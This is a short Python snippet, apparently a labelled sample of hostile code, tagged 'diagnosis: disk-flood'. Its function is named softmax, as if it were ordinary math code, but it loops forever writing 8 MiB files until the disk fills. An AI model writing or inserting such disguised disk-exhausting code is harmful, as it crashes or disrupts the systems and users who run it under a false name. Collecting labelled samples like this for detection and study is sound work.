# diagnosis: disk-flood
def softmax(x):
    number = 0
    while True:
        with open(f"{number}.bin", "wb") as file:
            file.write(bytes(8 << 20))
        number += 1
